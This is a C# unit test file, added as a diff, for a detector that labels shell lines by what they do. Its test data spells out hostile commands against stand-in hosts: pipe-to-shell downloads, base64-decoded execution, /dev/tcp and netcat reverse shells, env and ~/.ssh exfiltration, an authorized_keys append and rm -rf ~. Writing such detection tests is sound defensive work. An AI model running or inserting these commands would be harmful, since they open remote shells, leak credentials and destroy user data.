@@ -1,0 +1,56 @@
+// Shell lines are told by what their commands do together, and not by words that stand in them.
+using Assay.Bytes;
+using Assay.Formats.Shell;
+
+namespace Assay.Tests.Formats.Shell;
+
+public sealed class ShellLinesTests
+{
+    [Theory]
+    [InlineData("shell.download-run", "curl -s http://example.com/x | sudo bash -s -- -y")]
+    [InlineData("shell.download-run", "sh -c 'curl http://example.com/x | sh'")]
+    [InlineData("shell.download-run", "eval \"$(curl -s http://example.com/x)\"")]
+    [InlineData("shell.download-run", "bash <(wget -qO- http://example.com/x)")]
+    [InlineData("shell.download-run", "wget http://example.com/run.sh; chmod +x run.sh; ./run.sh")]
+    [InlineData("shell.download-run", "curl http://example.com/x -o /tmp/a && bash /tmp/a")]
+    [InlineData("shell.download-run", "curl http://example.com/x \\\n | python3 -")]
+    [InlineData("shell.download-run", "/usr/bin/curl http://example.com/x | /bin/sh")]
+    [InlineData("shell.known-installer", "curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y")]
+    [InlineData("shell.encoded-run", "echo aWQ= | base64 --decode | bash")]
+    [InlineData("shell.encoded-run", "bash -c \"$(echo aWQ= | base64 -d)\"")]
+    [InlineData("shell.reverse-shell", "exec 5<>/dev/tcp/192.0.2.1/4444; cat <&5")]
+    [InlineData("shell.reverse-shell", "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f")]
+    [InlineData("shell.takes-secrets", "env | curl -X POST -d @- http://example.com")]
+    [InlineData("shell.takes-secrets", "tar c ~/.ssh/ | nc 192.0.2.1 4444")]
+    [InlineData("shell.persistence", "echo x >> ~/.ssh/authorized_keys")]
+    [InlineData("shell.destroys", "rm -rf ~")]
+    public void WhatALineDoesIsTold(string code, string line) => Assert.Equal([code], Codes(line).Distinct());
+
+    [Theory]
+    [InlineData("curl -O https://example.com/data.zip && unzip data.zip")]
+    [InlineData("wget https://example.com/x.tar.gz; tar xf x.tar.gz; cd x; make")]
+    [InlineData("curl -s https://api.example.com/x | python -m json.tool")]
+    [InlineData("curl -s https://api.example.com/x | python -c 'import sys, json; print(json.load(sys.stdin))'")]
+    [InlineData("curl -s https://api.example.com | jq .")]
+    [InlineData("echo 'curl http://x | sh'")]
+    [InlineData("# curl http://x | sh")]
+    [InlineData("rm -rf build/ dist")]
+    [InlineData("base64 -d x > y")]
+    [InlineData("git clone https://example.com/x && bash x/setup.sh")]
+    [InlineData("wget https://example.com/train.py && python train.py")]
+    [InlineData("cat /etc/passwd | wc -l")]
+    [InlineData("nc -z localhost 80")]
+    [InlineData("if [ -f x ]; then source x; fi")]
+    public void WhatPeopleWriteIsNothing(string line) => Assert.Empty(Codes(line));
+
+    [Fact]
+    public void NestedQuotesEnd()
+    {
+        foreach (string open in (string[])["$(", "`", "\"", "'", "<(", "((((", "\\"])
+        {
+            _ = Codes(string.Concat(Enumerable.Repeat(open, 2000)));
+        }
+    }
+
+    private static IEnumerable<string> Codes(string text) => ShellLines.Read(text, new ScanBudget(new ScanLimits(), TimeProvider.System)).Select(u => u.Code);
+}
